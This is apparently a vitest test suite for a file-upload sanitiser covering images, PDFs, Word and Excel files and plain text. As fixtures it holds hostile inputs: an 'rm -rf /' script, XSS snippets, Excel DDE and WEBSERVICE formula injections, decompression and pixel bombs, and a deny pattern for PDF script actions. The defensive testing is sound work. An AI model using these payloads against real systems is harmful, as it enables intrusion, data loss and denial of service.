import { createHash } from "node:crypto";
import { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import { deflateSync } from "node:zlib";
import { PDFDocument, PDFName } from "@cantoo/pdf-lib";
import { strToU8, zipSync } from "fflate";
import sharp from "sharp";
import { describe, expect, test } from "vitest";
import type { FileKind, FileProblem } from "../../app/attachments/attachment.ts";
import { LIMITS } from "../../app/attachments/sanitise/limits.ts";
import { cleanPdf } from "../../app/attachments/sanitise/pdf/pdf.server.ts";
import { sanitise } from "../../app/attachments/sanitise/sanitiser.server.ts";
import * as files from "./files.ts";

/** Cleans these bytes as the server does: in a process of its own. */
async function clean(bytes: Uint8Array | string) {
  let cleaned = Buffer.alloc(0);
  const result = await sanitise(Readable.from([Buffer.from(bytes)]), async (content) => {
    cleaned = await buffer(content);
  });
  return { result, cleaned };
}

async function accepted(bytes: Uint8Array | string, kind: FileKind): Promise<Buffer> {
  const { result, cleaned } = await clean(bytes);
  const sha256 = createHash("sha256").update(cleaned).digest("hex");
  expect(result).toEqual({ kind, bytes: cleaned.length, sha256 });
  return cleaned;
}

async function refused(bytes: Uint8Array | string, problem: FileProblem): Promise<void> {
  const { result, cleaned } = await clean(bytes);
  expect(result).toEqual({ problem });
  expect(cleaned).toHaveLength(0);
}

const expectNoTrace = (text: string) => {
  for (const trace of files.TRACES) expect(text).not.toContain(trace);
};

describe("pictures", () => {
  test.each(["jpeg", "png", "webp"] as const)(
    "a %s is drawn anew, upright, without what the phone wrote",
    async (format) => {
      const original = await files.photograph(format);
      expect(original.toString("latin1")).toContain(files.TRACES[1]);
      const cleaned = await accepted(original, format);
      expectNoTrace(cleaned.toString("latin1"));
      const told = await sharp(cleaned).metadata();
      expect(told).toMatchObject({ format, width: 200, height: 300 });
      for (const block of ["exif", "xmp", "iptc", "icc", "orientation"] as const) expect(told[block]).toBeUndefined();
    },
  );

  test("is made 4,096 pixels long at most", async () => {
    const cleaned = await accepted(await files.noise(5000, 40).jpeg().toBuffer(), "jpeg");
    expect(await sharp(cleaned).metadata()).toMatchObject({ width: 4096 });
  });

  test("a ZIP after the end of a JPEG does not come along", async () => {
    const zip = zipSync({ "hidden.txt": strToU8("HIDDEN-AFTER-THE-END") }, { level: 0 });
    const cleaned = await accepted(Buffer.concat([await files.photograph(), zip]), "jpeg");
    expect(cleaned.toString("latin1")).not.toContain("HIDDEN-AFTER-THE-END");
    expect(cleaned.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
  });

  test.each(["jpeg", "png", "webp"] as const)("a %s that is cut off is refused", async (format) => {
    const whole = await files.photograph(format, 600, 400);
    await refused(whole.subarray(0, whole.length / 2), "file_broken");
  });

  test("a picture of 900 million pixels in a few bytes is refused", async () => {
    await refused(await files.pixelBomb(), "file_bomb");
  });

  test("a HEIC photograph is refused with its own words", () => refused(files.HEIC, "file_heic"));
});

describe("what is something else than its name says", () => {
  test.each([
    ["HTML", "<!DOCTYPE html><script>alert(1)</script>"],
    ["HTML with blank lines before it", "\n\n  <html><body>x</body></html>"],
    ["SVG", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ["XML", '<?xml version="1.0"?><svg/>'],
    ["a script", "#!/bin/sh\nrm -rf /"],
    ["a program of Windows", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(500)])],
    ["a ZIP", zipSync({ "a.txt": strToU8("a") })],
    ["bytes without sense", Buffer.from([1, 2, 3, 0, 255, 254, 0, 9])],
    ["RTF", String.raw`{\rtf1 hello}`],
  ])("%s is refused", (_, bytes) => refused(bytes, "file_type"));

  test("an old Word file is refused with its own words", () =>
    refused(Buffer.concat([Buffer.from("D0CF11E0A1B11AE1", "hex"), Buffer.alloc(2000)]), "file_old_office"));
});

describe("plain text", () => {
  test("of UTF-8 stays as it is, without its mark", async () => {
    expect((await accepted("\uFEFF要求每天上报。\r\n第二行\t完", "text")).toString()).toBe(
      "要求每天上报。\r\n第二行\t完",
    );
  });

  test("of Chinese Windows becomes UTF-8", async () => {
    expect((await accepted(Buffer.from("d2aac7f3c3bfccec", "hex"), "text")).toString()).toBe("要求每天");
    expect((await accepted(Buffer.from("\uFEFF要求", "utf16le"), "text")).toString()).toBe("要求");
  });

  test("with control characters is refused", () => refused("要求\u0007每天\u001B[31m", "file_type"));
});

describe("PDF", () => {
  test("keeps its pages and pictures, and nothing of its makers, scripts, files and links", async () => {
    const original = await files.pdf(2);
    const before = await files.insideOfPdf(original);
    expect(before).toContain(files.TRACES[1]);
    const cleaned = await accepted(original, "pdf");
    const inside = await files.insideOfPdf(cleaned);
    expectNoTrace(inside);
    for (const hex of files.TRACES.map((trace) => Buffer.from(trace).toString("hex"))) {
      expect(inside.toLowerCase()).not.toContain(hex);
      expect(inside.toLowerCase()).not.toContain(
        Buffer.from(hex, "hex").toString("latin1").split("").join("\0").toLowerCase(),
      );
    }
    expect(inside).not.toMatch(
      /\/(JavaScript|JS|OpenAction|AA|Launch|EmbeddedFile|Metadata|AcroForm|Names|URI|Info)\b/,
    );
    expect(inside).toContain(Buffer.from(files.SAID).toString("hex").toUpperCase());
    const doc = await PDFDocument.load(cleaned, { updateMetadata: false });
    expect(doc.getPageCount()).toBe(2);
    expect(doc.getAuthor()).toBeUndefined();
    expect(inside).toContain("/DCTDecode");
    expect(inside).toContain("/Ink");
  });

  test("that is cut off is refused", async () => {
    const whole = await files.pdf();
    await refused(whole.subarray(0, whole.length - 2000), "file_broken");
  });

  test("with a password is refused", async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    doc.encrypt({ userPassword: "secret", ownerPassword: "secret" });
    await refused(await doc.save({ useObjectStreams: false }), "file_encrypted");
  });

  test("with more than 300 pages is refused", async () => {
    const doc = await PDFDocument.create();
    for (let page = 0; page < 301; page += 1) doc.addPage([10, 10]);
    await refused(await doc.save(), "file_pages");
  });

  /** A PDF with something more among its objects. */
  async function pdfWith(more: string, edit = (pdf: string) => pdf): Promise<Buffer> {
    const doc = await PDFDocument.create();
    doc.addPage();
    const plain = Buffer.from(await doc.save({ useObjectStreams: false })).toString("latin1");
    return Buffer.from(
      edit(plain).replace("xref\n", () => `${more}\nxref\n`),
      "latin1",
    );
  }
  const packed = (dict: string, bytes: Buffer) => {
    const contents = deflateSync(bytes).toString("latin1");
    return `90 0 obj\n<< ${dict} /Filter /FlateDecode /Length ${contents.length} >>\nstream\n${contents}\nendstream\nendobj\n`;
  };
  const zeros = Buffer.alloc(200 * 1024 * 1024, "0 ");

  test.each<[string, FileProblem, () => string]>([
    ["more objects than any report", "file_bomb", () => "9 0 obj 1 endobj\n".repeat(100_001)],
    ["a list of millions of numbers", "file_bomb", () => `9 0 obj [${"0 ".repeat(2_000_001)}] endobj`],
    ["objects packed a thousandfold", "file_bomb", () => packed("/Type /ObjStm /N 5 /First 40", zeros)],
    ["the same under a name in disguise", "file_bomb", () => packed("/Type /#4fbj#53tm /N 5 /First 40", zeros)],
    ["an index packed a thousandfold", "file_bomb", () => packed("/Type /XRef /W [1 1 1] /Size 1", zeros)],
    [
      "an index of a billion entries",
      "file_bomb",
      () => packed("/Type /XRef /W [1 1 1] /Size 1000000000", Buffer.from("x")),
    ],
    [
      "packings within packings",
      "file_bomb",
      () =>
        packed("/Type /ObjStm /N 5 /First 40", Buffer.alloc(10)).replace("/FlateDecode", "[/FlateDecode /FlateDecode]"),
    ],
  ])("with %s is refused for little CPU", async (_, problem, more) => {
    const bytes = await pdfWith(more());
    const before = process.cpuUsage();
    await expect(cleanPdf(bytes)).rejects.toMatchObject({ problem });
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1e6).toBeLessThan(LIMITS.cpuSeconds.pdf);
    await refused(bytes, problem);
  });

  test("whose tree of pages doubles at every level is refused", async () => {
    const levels = Array.from({ length: 40 }, (_, at) => {
      const kid = at === 39 ? "" : `${at + 51} 0 R ${at + 51} 0 R`;
      return `${at + 50} 0 obj << /Type /Pages /Count 1 /Kids [${kid}] >> endobj\n`;
    });
    const bytes = await pdfWith(levels.join(""), (pdf) => pdf.replace(/\/Kids \[[^\]]*\]/, "/Kids [ 50 0 R ]"));
    await refused(bytes, "file_pages");
  });

  test("with a photograph packed a thousandfold is refused", async () => {
    const doc = await PDFDocument.create();
    const page = doc.addPage();
    const bomb = doc.context.stream(deflateSync(zeros), {
      Type: "XObject",
      Subtype: "Image",
      Filter: ["FlateDecode", "DCTDecode"],
    });
    page.node.setXObject(PDFName.of("X"), doc.context.register(bomb));
    await refused(await doc.save(), "file_bomb");
  });

  test("of nonsense that takes the parser for ever is given up after its share of CPU", async () => {
    const start = performance.now();
    await refused(await pdfWith("1".repeat(200_000)), "file_bomb");
    expect(performance.now() - start).toBeLessThan(LIMITS.seconds * 1000);
  });

  test("that begins as something else, or only says that it is one, is refused", async () => {
    const { result } = await clean(Buffer.concat([Buffer.from("<html>"), await files.pdf()]));
    expect(result).toHaveProperty("problem");
    await refused("%PDF-1.7\nno objects at all\n%%EOF", "file_broken");
  });

  test("does not bring along a ZIP that hides behind its end", async () => {
    const zip = zipSync({ "a.txt": strToU8("HIDDEN-AFTER-THE-END") }, { level: 0 });
    const cleaned = await accepted(Buffer.concat([await files.pdf(), zip]), "pdf");
    expect(cleaned.toString("latin1")).not.toContain("HIDDEN-AFTER-THE-END");
  });
});

describe("Office files", () => {
  const dangling = (parts: Record<string, string>) =>
    Object.entries(parts)
      .filter(([name]) => name.endsWith(".rels"))
      .flatMap(([name, xml]) => {
        const owner = name.replace(/_rels\/([^/]*)\.rels$/, "$1");
        const ids = new Set([...xml.matchAll(/ Id="([^"]+)"/g)].map((match) => match[1]));
        return [...(parts[owner] ?? "").matchAll(/ r:\w+="([^"]+)"/g)].filter(([, id]) => !ids.has(id));
      });

  test("a Word file keeps its text and pictures, and nothing of its makers", async () => {
    const cleaned = await accepted(await files.docx(), "docx");
    const parts = files.insideOfPackage(cleaned);
    expectNoTrace(JSON.stringify(parts));
    expectNoTrace(cleaned.toString("latin1"));
    expect(parts["word/document.xml"]).toContain(files.SAID);
    expect(parts["word/document.xml"]).not.toMatch(/<w:ins[ >]|comment[RA]/);
    expect(JSON.stringify(parts)).not.toMatch(/rsid|00AB12CD|2026-01-02T03/);
    expect(Object.keys(parts).sort()).toEqual([
      "[Content_Types].xml",
      "_rels/.rels",
      "word/_rels/document.xml.rels",
      "word/_rels/settings.xml.rels",
      "word/document.xml",
      "word/media/image1.jpeg",
      "word/settings.xml",
    ]);
    expect(parts["[Content_Types].xml"]).not.toMatch(/people|docProps/);
    expect(parts["word/_rels/document.xml.rels"]).toContain("https://www.example.org/");
    expect(dangling(parts)).toEqual([]);
  });

  test("a Word file keeps what was added to it, and nothing of what was deleted, moved away or remarked", async () => {
    const tracked = `<w:p><w:pPr><w:rPr><w:ins w:id="3" w:author="x"/></w:rPr><w:pPrChange w:id="9"><w:pPr/></w:pPrChange></w:pPr>
      <w:ins w:id="4" w:author="x"><w:r><w:t>ADDED</w:t></w:r></w:ins><w:del w:id="5" w:author="x"><w:r><w:delText>DELETED</w:delText></w:r></w:del>
      <w:moveFrom w:id="6"><w:r><w:t>MOVED-AWAY</w:t></w:r></w:moveFrom><w:moveTo w:id="7"><w:r><w:t>MOVED-HERE</w:t></w:r></w:moveTo>
      <w:commentRangeStart w:id="0"/><w:r><w:t>REMARKED</w:t></w:r><w:commentRangeEnd w:id="0"/></w:p>`;
    const document = Buffer.from((await files.docxParts())["word/document.xml"] ?? []).toString();
    const bytes = await files.docx({
      "word/document.xml": strToU8(document.replace("<w:body>", `<w:body>${tracked}`)),
    });
    const parts = files.insideOfPackage(await accepted(bytes, "docx"));
    for (const kept of ["ADDED", "MOVED-HERE", "REMARKED", files.SAID])
      expect(parts["word/document.xml"]).toContain(kept);
    expect(parts["word/document.xml"]).not.toMatch(/DELETED|MOVED-AWAY|<w:ins[ >]|<w:move|PrChange|comment/);
    expect(Object.keys(parts).join()).not.toContain("comment");
  });

  test("an Excel file keeps the values of its cells and none of its formulas", async () => {
    const cells = `<row r="2"><c r="A2"><f>cmd|'/C calc'!A0</f><v>1</v></c><c r="B2"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>2</v></c>
      <c r="C2"><f t="shared" ref="C2:C3" si="0">SUM(A2:B2)</f><v>3</v></c><c r="D2"><f t="shared" si="0"/><v>4</v></c>
      <c r="E2" t="str"><f>HYPERLINK("file://x")</f><v>five</v></c></row>`;
    const sheet = Buffer.from((await files.xlsxParts())["xl/worksheets/sheet1.xml"] ?? []).toString();
    const bytes = await files.xlsx({
      "xl/worksheets/sheet1.xml": strToU8(sheet.replace("</sheetData>", `${cells}</sheetData>`)),
    });
    const cleaned = files.insideOfPackage(await accepted(bytes, "xlsx"))["xl/worksheets/sheet1.xml"] ?? "";
    expect([...cleaned.matchAll(/<v>(\w+)<\/v>/g)].map(([, value]) => value)).toEqual([
      "42",
      "1",
      "2",
      "3",
      "4",
      "five",
    ]);
    expect(cleaned).not.toMatch(/<f[\s>/]|WEBSERVICE|HYPERLINK|cmd/);
  });

  test("an Excel file keeps its cells, and nothing of its makers", async () => {
    const parts = files.insideOfPackage(await accepted(await files.xlsx(), "xlsx"));
    expectNoTrace(JSON.stringify(parts));
    expect(parts["xl/worksheets/sheet1.xml"]).toContain(files.SAID);
    expect(parts["xl/worksheets/sheet1.xml"]).toContain('<c r="B1"><v>42</v></c>');
    expect(Object.keys(parts).join()).not.toMatch(/docProps|externalLink|printer/);
    expect(dangling(parts)).toEqual([]);
  });

  test("with macros is refused, whatever it calls itself", async () => {
    await refused(await files.docx({ "word/vbaProject.bin": strToU8("macro") }), "file_macro");
    const types = Buffer.from((await files.docxParts())["[Content_Types].xml"] ?? []).toString();
    const macroType = types.replace(
      /application\/vnd[^"]*document\.main\+xml/,
      "application/vnd.ms-word.document.macroEnabled.main+xml",
    );
    await refused(await files.docx({ "[Content_Types].xml": strToU8(macroType) }), "file_macro");
  });

  test("that unpacks without end is refused before it is unpacked", async () => {
    await refused(await files.zipBomb(), "file_bomb");
    const many = Object.fromEntries(
      Array.from({ length: 2100 }, (_, index) => [`word/x${index}.xml`, strToU8("<x/>")]),
    );
    await refused(await files.docx(many), "file_bomb");
  });

  test("with a picture bomb inside is refused", async () => {
    await refused(await files.docx({ "word/media/image2.png": await files.pixelBomb() }), "file_bomb");
  });

  test("that is cut off is refused", async () => {
    const whole = await files.docx();
    const { result } = await clean(whole.subarray(0, whole.length - 500));
    expect(result).toEqual({ problem: "file_broken" });
  });

  test("with entities is refused", () =>
    files
      .docx({ "word/footer1.xml": strToU8('<!DOCTYPE x [<!ENTITY a "b">]><x/>') })
      .then((bytes) => refused(bytes, "file_broken")));
});
